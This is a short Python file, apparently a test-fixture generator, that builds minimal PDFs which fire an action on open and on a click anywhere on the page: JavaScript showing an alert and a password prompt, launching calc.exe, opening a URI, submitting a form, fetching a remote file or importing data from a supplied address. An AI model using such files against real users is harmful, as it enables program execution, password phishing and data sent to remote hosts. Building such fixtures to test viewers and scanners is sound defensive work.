"""Small PDFs, each with one thing that a viewer may do by itself or at a click."""

ACTIONS = {
    "JavaScript": "<< /S /JavaScript /JS (app.alert\\(1\\); app.response\\('Password'\\)) >>",
    "URI": "<< /S /URI /URI ({at}) >>",
    "Launch": "<< /S /Launch /F (calc.exe) >>",
    "SubmitForm": "<< /S /SubmitForm /F << /FS /URL /F ({at}) >> >>",
    "GoToR": "<< /S /GoToR /F << /FS /URL /F ({at}) >> /D [0 /Fit] >>",
    "ImportData": "<< /S /ImportData /F ({at}) >>",
}


def hostile_pdf(action: str, at: str) -> bytes:
    """A whole PDF that does the action when it is opened, and at a click anywhere on its page."""
    does = ACTIONS[action].replace("{at}", at)
    objects = (
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {does} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A {does} >>",
    )
    body = "%PDF-1.7\n"
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += f"{number} 0 obj\n{content}\nendobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    return (
        f"{body}xref\n0 5\n0000000000 65535 f \n{table}"
        f"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF\n"
    ).encode()
